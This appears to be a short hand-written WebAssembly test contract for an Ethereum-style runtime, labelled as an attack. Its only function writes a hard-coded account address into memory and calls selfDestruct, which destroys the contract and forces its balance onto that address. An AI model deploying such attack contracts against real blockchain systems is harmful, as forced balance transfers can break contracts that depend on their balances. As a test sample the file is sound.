;; The attack by hand.

(module $attacker
  (import "ethereum" "selfDestruct" (func $selfDestruct (param i32)))
  (memory $memory (export "memory") 1)

  ;; Writes the address of an account to working memory.
  (func $address (param $who i64)
    (i64.store $memory (i32.const 0) (i64.const 0))
    (i64.store $memory (i32.const 8) (i64.const 0))
    (i32.store $memory (i32.const 16) (i32.const 0))
    (i32.store8 $memory (i32.const 19) (i32.wrap_i64 (local.get $who))))

  (func $main (export "main")
    (call $address (i64.const 106))
    (call $selfDestruct (i32.const 0))))
